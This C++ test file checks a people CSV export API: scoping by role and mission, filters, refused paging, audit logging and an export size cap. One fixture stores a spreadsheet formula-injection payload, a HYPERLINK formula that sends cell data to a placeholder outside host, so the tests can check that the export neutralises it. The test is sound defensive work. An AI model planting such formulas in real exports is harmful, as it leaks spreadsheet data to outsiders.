// The people export over the real API (GET /api/v1/people/export.csv): the caller's own scope under
// row-level security, the list's filters, formula neutralisation, refusals as for the list, the audit row
// with the ids exported, and the bound on how many people one export holds.
#include <gtest/gtest.h>

#include <regex>

#include "service/journey_records.hpp"
#include "support/records.hpp"
#include "support/server_test.hpp"

namespace rudi {
namespace {
using test::ApiClient;
using test::make_cohort;
using test::make_person;

const std::string kExport = "/api/v1/people/export.csv";
const std::string kHeader =
    "id,given_name,family_name,estimated_age,stage,on_hold,days_in_stage,minor,medical,cohort_id,mission_id";

// The records of a CSV document, one string per line, without the CRLF that ends each; empty when a line
// does not end with CRLF.
std::vector<std::string> lines_of(const std::string& csv) {
  std::vector<std::string> lines;
  std::size_t start = 0;
  while (start < csv.size()) {
    const auto end = csv.find("\r\n", start);
    if (end == std::string::npos) return {};
    lines.push_back(csv.substr(start, end - start));
    start = end + 2;
  }
  return lines;
}

class PeopleExportTest : public test::ServerTest {
 protected:
  std::string count(const std::string& sql) { return server_->db().owner_query(sql); }
};

TEST_F(PeopleExportTest, AnEmbassyOfficerExportsTheirMissionsPeopleWithFormulasNeutralised) {
  ApiClient bangkok = server_->signed_in("embassy.one");
  const auto cohort = make_cohort(bangkok);
  const auto neema =
      make_person(bangkok, cohort, {{"phone", "+66812345678"}, {"current_location", "Mae Sot shelter"}});
  const auto formula = make_person(bangkok, cohort,
                                   {{"given_name", "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"},
                                    {"family_name", "+254712345678"},
                                    {"estimated_age", nullptr}});
  const auto minor = make_person(bangkok, std::nullopt,
                                 {{"given_name", "Amani"},
                                  {"family_name", "Otieno, Jr."},
                                  {"estimated_age", 16},
                                  {"vulnerabilities", {"minor", "medical_need"}},
                                  {"stage", "reported"}});
  ApiClient pretoria = server_->signed_in("embassy.two");
  const auto elsewhere =
      make_person(pretoria, std::nullopt, {{"given_name", "Imani"}, {"family_name", "Kerubo"}});

  auto reply = bangkok.get(kExport);
  ASSERT_EQ(reply.status, 200u) << reply.body;
  EXPECT_EQ(reply.header("content-type"), "text/csv; charset=utf-8");
  EXPECT_TRUE(std::regex_match(reply.header("content-disposition"),
                               std::regex(R"(attachment; filename="rudi-people-\d{4}-\d{2}-\d{2}\.csv")")))
      << reply.header("content-disposition");
  EXPECT_EQ(reply.header("cache-control"), "no-store");
  const auto lines = lines_of(reply.body);
  ASSERT_EQ(lines.size(), 4u) << "the header and Bangkok's three people, each line ending CRLF:\n"
                              << reply.body;
  EXPECT_EQ(lines[0], kHeader);
  const std::string b = std::to_string(server_->bangkok), c = std::to_string(cohort);
  EXPECT_EQ(lines[1], std::to_string(neema) + ",Neema,Wafula,27,located,false,0,false,false," + c + "," + b);
  EXPECT_EQ(lines[2],
            std::to_string(formula) +
                ",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\",'+254712345678,,located,"
                "false,0,false,false," +
                c + "," + b)
      << "the formula and the phone-like name start with a quote, inside the quoted field";
  EXPECT_EQ(lines[3], std::to_string(minor) + ",Amani,\"Otieno, Jr.\",16,reported,false,0,true,true,," + b);
  for (const char* kept_out : {"Kerubo", "66812345678", "Mae Sot"})
    EXPECT_EQ(reply.body.find(kept_out), std::string::npos) << kept_out << " is not for this export";

  // The ids exported, and nothing else of theirs, are in the audit log with the read.
  const std::string actor = std::to_string(server_->embassy);
  const std::string exported = count(
      "SELECT details->'ids' FROM audit_log WHERE action = 'person.export' AND outcome = 'allowed' AND "
      "entity = 'person' AND actor_id = " +
      actor);
  ASSERT_FALSE(exported.empty()) << "the export is audited";
  EXPECT_EQ(nlohmann::json::parse(exported), nlohmann::json::array({neema, formula, minor}));
  EXPECT_EQ(count("SELECT count(*) FROM audit_log WHERE action = 'person.export' AND (details::text LIKE "
                  "'%Neema%' OR details::text LIKE '%HYPERLINK%')"),
            "0")
      << "no personal data in the audit log";

  // The ministry exports every mission's people.
  auto nation = server_->signed_in("ministry.one").get(kExport);
  ASSERT_EQ(nation.status, 200u) << nation.body;
  EXPECT_EQ(lines_of(nation.body).size(), 5u);
  EXPECT_NE(nation.body.find(std::to_string(elsewhere) + ",Imani,Kerubo,"), std::string::npos);
  EXPECT_EQ(pretoria.get(kExport).body.find("Neema"), std::string::npos);
}

TEST_F(PeopleExportTest, TheListsFiltersChooseTheRowsAndPagingIsRefused) {
  ApiClient bangkok = server_->signed_in("embassy.one");
  const auto cohort = make_cohort(bangkok);
  const auto neema = make_person(bangkok, cohort);
  const auto amani = make_person(bangkok, cohort,
                                 {{"given_name", "Amani"},
                                  {"family_name", "Otieno"},
                                  {"estimated_age", 16},
                                  {"vulnerabilities", {"minor"}},
                                  {"stage", "reported"}});
  const auto baraka = make_person(
      bangkok, std::nullopt, {{"given_name", "Baraka"}, {"family_name", "Mwangi"}, {"stage", "located"}});
  auto ids_of = [&](const std::string& query) {
    auto reply = bangkok.get(kExport + query);
    EXPECT_EQ(reply.status, 200u) << query << ": " << reply.body;
    std::vector<std::int64_t> ids;
    const auto lines = lines_of(reply.body);
    for (std::size_t i = 1; i < lines.size(); ++i)
      ids.push_back(std::stoll(lines[i].substr(0, lines[i].find(','))));
    return ids;
  };
  using Ids = std::vector<std::int64_t>;
  EXPECT_EQ(ids_of(""), (Ids{neema, amani, baraka}));
  EXPECT_EQ(ids_of("?minor=true"), (Ids{amani}));
  EXPECT_EQ(ids_of("?stage=located"), (Ids{neema, baraka}));
  EXPECT_EQ(ids_of("?cohort_id=" + std::to_string(cohort) + "&stage=located"), (Ids{neema}));
  EXPECT_EQ(ids_of("?q=Wafula"), (Ids{neema}));
  EXPECT_EQ(ids_of("?sort=name"), (Ids{amani, baraka, neema}));
  EXPECT_EQ(ids_of("?on_hold=true"), (Ids{}));

  for (const char* query : {"?limit=2", "?after=1", "?sort=name&after=1&after_name=a"}) {
    auto paged = bangkok.get(kExport + query);
    ASSERT_EQ(paged.status, 422u) << query;
    EXPECT_EQ(paged.header("content-type"), "application/problem+json");
    EXPECT_EQ(paged.json()["type"], "urn:rudi:problem:invalid-input");
    EXPECT_NE(paged.json()["errors"][0]["detail"].get<std::string>().find("no pages"), std::string::npos);
  }
  auto bad = bangkok.get(kExport + "?stage=nowhere&colour=red");
  ASSERT_EQ(bad.status, 422u);
  EXPECT_EQ(bad.json()["errors"].size(), 2u) << bad.body;
  EXPECT_EQ(count("SELECT count(*) FROM audit_log WHERE action = 'person.export' AND outcome = 'allowed'"),
            "7")
      << "every export that answered 200 is audited, none of the refused queries";
}

TEST_F(PeopleExportTest, AdministratorsAuditorsAndProsecutorsAreRefusedAndTheRefusalIsAudited) {
  ApiClient bangkok = server_->signed_in("embassy.one");
  make_person(bangkok, make_cohort(bangkok));
  ApiClient admin = server_->client();
  ASSERT_EQ(admin.sign_in("admin.one", test::kTestPassword).status, 201u);
  ApiClient auditor = server_->client();
  ASSERT_EQ(auditor.sign_in("auditor.one", test::kTestPassword).status, 201u);
  for (ApiClient* refused : {&admin, &auditor}) {
    auto reply = refused->get(kExport);
    EXPECT_EQ(reply.status, 403u) << reply.body;
    EXPECT_EQ(reply.header("content-type"), "application/problem+json");
    EXPECT_EQ(reply.body.find("Neema"), std::string::npos);
    EXPECT_EQ(refused->get("/api/v1/people").status, reply.status) << "refused exactly as the list is";
  }
  // Prosecutors may list the victims of their cases, but not take them out in bulk (the access policy).
  auto prosecutor = server_->signed_in("prosecutor.one").get(kExport);
  EXPECT_EQ(prosecutor.status, 403u) << prosecutor.body;
  EXPECT_EQ(count("SELECT count(*) FROM audit_log WHERE action = 'person.export' AND outcome = 'refused' AND "
                  "actor_id IN (" +
                  std::to_string(server_->admin) + ", " + std::to_string(server_->auditor) + ", " +
                  std::to_string(server_->prosecutor) + ")"),
            "3");
  EXPECT_EQ(server_->client().get(kExport).status, 401u);
}

TEST_F(PeopleExportTest, MoreThanTheBoundIsRefusedAndNothingIsExported) {
  ApiClient bangkok = server_->signed_in("embassy.one");
  const auto own = make_person(bangkok, std::nullopt);
  // The bound exactly (written straight into the table: through the API it would take minutes).
  const std::string bulk = "INSERT INTO people (mission_id, given_name, family_name, nationality) SELECT " +
                           std::to_string(server_->bangkok) +
                           ", 'Bulk', 'Person ' || g, 'KE' FROM generate_series(1, ";
  server_->db().nation_query(bulk + std::to_string(service::kMaxExport - 1) + ") AS g");
  auto full = bangkok.get(kExport);
  ASSERT_EQ(full.status, 200u) << full.body.substr(0, 400);
  EXPECT_EQ(lines_of(full.body).size(), static_cast<std::size_t>(service::kMaxExport) + 1);

  server_->db().nation_query(bulk + "1) AS g");
  auto over = bangkok.get(kExport);
  ASSERT_EQ(over.status, 422u) << over.body.substr(0, 400);
  EXPECT_EQ(over.header("content-type"), "application/problem+json");
  const auto problem = over.json();
  EXPECT_EQ(problem["type"], "urn:rudi:problem:invalid-input");
  ASSERT_EQ(problem["errors"].size(), 1u);
  EXPECT_EQ(problem["errors"][0]["pointer"], "#limit");
  EXPECT_NE(problem["errors"][0]["detail"].get<std::string>().find("narrow the filters"), std::string::npos);
  EXPECT_EQ(over.body.find("Neema"), std::string::npos);
  EXPECT_EQ(count("SELECT count(*) FROM audit_log WHERE action = 'person.export'"), "1")
      << "only the export that answered is audited";

  auto narrowed = bangkok.get(kExport + "?stage=located");
  ASSERT_EQ(narrowed.status, 200u) << narrowed.body;
  const auto lines = lines_of(narrowed.body);
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_EQ(lines[1].substr(0, lines[1].find(',')), std::to_string(own));
}

}  // namespace
}  // namespace rudi
